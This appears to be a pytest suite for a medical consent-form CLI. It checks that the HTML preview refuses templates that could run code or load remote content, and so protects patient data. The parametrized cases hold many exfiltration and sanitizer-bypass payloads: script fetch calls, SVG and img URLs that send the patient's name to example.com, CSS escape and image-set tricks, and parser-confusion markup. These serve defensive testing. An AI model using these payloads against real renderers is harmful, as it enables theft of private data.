"""The --html preview holds patient data: whatever an institution's templates put in
it, the file must not run code or load anything when opened in a browser. Each case
is a real template folder rendered through the command line, as a clinician would."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from consent.cli import app
from consent.errors import RenderError
from consent.packet import render_packet

PATIENT = ("--patient-name", "Zelda Quixote", "--record-number", "MRN777")
LEAKS = ("Zelda", "Quixote", "MRN777")
GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACw="


def render(*args: str):
    return CliRunner().invoke(app, ["render", "bariatric-revision", *args], terminal_width=200)


def templates(tmp_path: Path, logo: str, stylesheet: str | None = None) -> Path:
    folder = tmp_path / "templates"
    (folder / "parts").mkdir(parents=True)
    (folder / "parts" / "logo.html.j2").write_text(logo, encoding="utf-8")
    if stylesheet is not None:
        (folder / "style.css").write_text(stylesheet, encoding="utf-8")
    return folder


def assert_refused(result, *words: str) -> None:
    assert result.exit_code == 1, result.output
    message = result.output.strip()
    assert message.startswith("Error: the HTML preview ") and message.count("\n") == 0
    for word in words:
        assert word in message
    for leaked in LEAKS:
        assert leaked not in message


REMOTE = "https://example.com/?who={{ patient.name }}"
REFUSED = [
    pytest.param(
        '<script>fetch("https://example.com/?"+document.body.dataset.header)</script>\n'
        f'<svg><image href="{REMOTE}" width="9" height="9"/></svg>\n'
        f'<img src = "{REMOTE}" alt="">\n',
        None,
        ["<script>"],
        id="red-team script",
    ),
    pytest.param(
        f'<svg><image href="{REMOTE}" width="9" height="9"/></svg>',
        None,
        ["href on <image>", "https:"],
        id="svg image href",
    ),
    pytest.param(
        f'<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{REMOTE}"/></svg>',
        None,
        ["xlink:href on <image>", "https:"],
        id="svg xlink:href",
    ),
    pytest.param(
        f'<img src = "{REMOTE}" alt="">', None, ["src on <img>", "https:"], id="src with spaces"
    ),
    pytest.param(
        '<img src="https://example.com/{{ patient.name }}.png" alt="">',
        None,
        ["src on <img>", "https:"],
        id="remote image named after the patient",
    ),
    pytest.param(
        "<p onmouseover=\"fetch('https://example.com')\">Hover here</p>",
        None,
        ["onmouseover on <p>"],
        id="event attribute",
    ),
    pytest.param(
        f"<p style='background-image: image-set(\"{REMOTE}\" 1x)'>Clinic</p>",
        None,
        ["image-set(https:", "style attribute on <p>"],
        id="css image-set string",
    ),
    pytest.param(
        "<p style='background-image: image-set(url(data:,) 1x, "
        '"ht\\9tps://example.com/{{ patient.name|urlencode }}.png" 2x)\'>Clinic</p>',
        None,
        ["image-set(https:", "style attribute on <p>"],
        id="css image-set after an unquoted url, a tab escaped in the scheme",
    ),
    pytest.param(
        '<p style=\'--u: "\\1 https://example.com/a.png"; '
        "background-image: image-set(var(--u) 1x)'>Clinic</p>",
        None,
        ["address https:", "style attribute on <p>"],
        id="css address through a custom property",
    ),
    pytest.param(
        '<img src="photos/{{ patient.record_number }}.png" alt="">',
        None,
        ["needs a .png file that is not in its template folders"],
        id="a missing file named from patient data",
    ),
    pytest.param(
        f'<meta http-equiv="refresh" content="0; url={REMOTE}">',
        None,
        ["<meta http-equiv>"],
        id="meta refresh",
    ),
    pytest.param(
        "<a href=\"javascript:fetch('https://example.com')\">Help</a>",
        None,
        ["href on <a>", "javascript:"],
        id="javascript link",
    ),
    pytest.param('<iframe srcdoc="<b>Hello</b>"></iframe>', None, ["<iframe>"], id="iframe"),
    pytest.param(
        '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
        None,
        ["<object>"],
        id="object",
    ),
    pytest.param(f'<embed src="{GIF}" type="image/gif">', None, ["<embed>"], id="embed"),
    pytest.param('<base href="https://example.com/">', None, ["<base>"], id="base href"),
    pytest.param(
        f'<img src="{GIF}" srcset="{GIF} 1x, {REMOTE} 2x" alt="">',
        None,
        ["srcset on <img>", "https:"],
        id="srcset",
    ),
    pytest.param(
        f'<form action="{REMOTE}"><button>Send</button></form>', None, ["<form>"], id="form"
    ),
    pytest.param(
        f'<button formaction="{REMOTE}">Send</button>',
        None,
        ["formaction on <button>"],
        id="formaction",
    ),
    pytest.param(
        f'<link rel="icon" href="{REMOTE}">', None, ["<link>"], id="link that is no stylesheet"
    ),
    pytest.param(
        "",
        "p { background: \\75rl(https://example.com/a.png) }",
        ["url(https:", "stylesheet"],
        id="css url written with an escape",
    ),
    pytest.param(
        "", '@\\69mport "https://example.com/more.css";', ["@import"], id="css escaped import"
    ),
    pytest.param(
        "<!--><svg><image href=https://example.com/a.png /></svg>-->",
        None,
        ["comment"],
        id="comment a browser ends early",
    ),
    pytest.param(
        '</x a="><b title=\'">"<svg><image href=https://example.com/a.png /></svg>\'>',
        None,
        ["</x>"],
        id="end tag with attributes",
    ),
    pytest.param(
        '<title><b title="</title><svg><image href=https://example.com/a.png /></svg>">',
        None,
        ["inside <title>"],
        id="tags inside title",
    ),
    pytest.param(
        '<style/><b title="</style><svg><image href=https://example.com/a.png /></svg>">',
        None,
        ["<style/>"],
        id="self-closing style",
    ),
]


@pytest.mark.parametrize(("logo", "stylesheet", "words"), REFUSED)
def test_the_preview_refuses_what_could_run_or_load(tmp_path, logo, stylesheet, words):
    folder = templates(tmp_path, logo, stylesheet)
    preview = tmp_path / "p.html"
    assert_refused(render("--templates", str(folder), *PATIENT, "--html", str(preview)), *words)
    assert not preview.exists()


def test_a_refused_preview_leaves_no_pdf_either(tmp_path):
    folder = templates(tmp_path, '<script>alert("{{ patient.name }}")</script>')
    out, preview = tmp_path / "p.pdf", tmp_path / "p.html"
    result = render("--templates", str(folder), *PATIENT, "--out", str(out), "--html", str(preview))
    assert_refused(result, "<script>")
    assert not out.exists() and not preview.exists()
    assert not list(tmp_path.glob(".consent-*"))


def test_render_packet_raises_render_error_for_a_script(tmp_path, table, alex):
    folder = templates(tmp_path, "<p onclick=\"alert('{{ patient.name }}')\">Clinic</p>")
    preview = tmp_path / "p.html"
    with pytest.raises(RenderError, match="onclick on <p>") as error:
        render_packet(table, *alex, None, templates=folder, html_out=preview)
    assert "Alex" not in str(error.value)
    assert not preview.exists()


def test_the_preview_keeps_what_cannot_load(tmp_path):
    logo = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<img src="{GIF}" alt="Example Hospital">\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' width="20" height="10"><title>Logo</title>'
        '<defs><linearGradient id="g"><stop offset="0" stop-color="teal"/></linearGradient>'
        '<rect id="r" width="9" height="9"/></defs>'
        '<rect width="9" height="9" fill="url(#g)"/><use href="#r" x="10"/></svg>\n'
        '<p>See https://doi.org/10.1000/182 and <a href="#evidence-title">the sources</a>.</p>\n'
    )
    folder = templates(tmp_path, logo)
    preview = tmp_path / "p.html"
    result = render("--templates", str(folder), *PATIENT, "--html", str(preview))
    assert result.exit_code == 0, result.output
    html = preview.read_text(encoding="utf-8")
    assert f'<img src="{GIF}"' in html and 'fill="url(#g)"' in html
    assert "https://doi.org/10.1000/182" in html and 'href="#evidence-title"' in html


def test_the_bundled_preview_checks_markup_not_the_patients_text(tmp_path):
    preview = tmp_path / "p.html"
    odd = 'Zoë "url(https://example.com)" <script>alert(1)</script> src=x'
    result = render(
        "--patient-name", odd, "--clinician", "Dr. O'Neil @import", "--html", str(preview)
    )
    assert result.exit_code == 0, result.output
    html = preview.read_text(encoding="utf-8")
    assert "<script" not in html.lower() and "&lt;script&gt;alert(1)" in html
    assert html.count("data:font/ttf;base64,") >= 4 and "about 5 in 100" in html
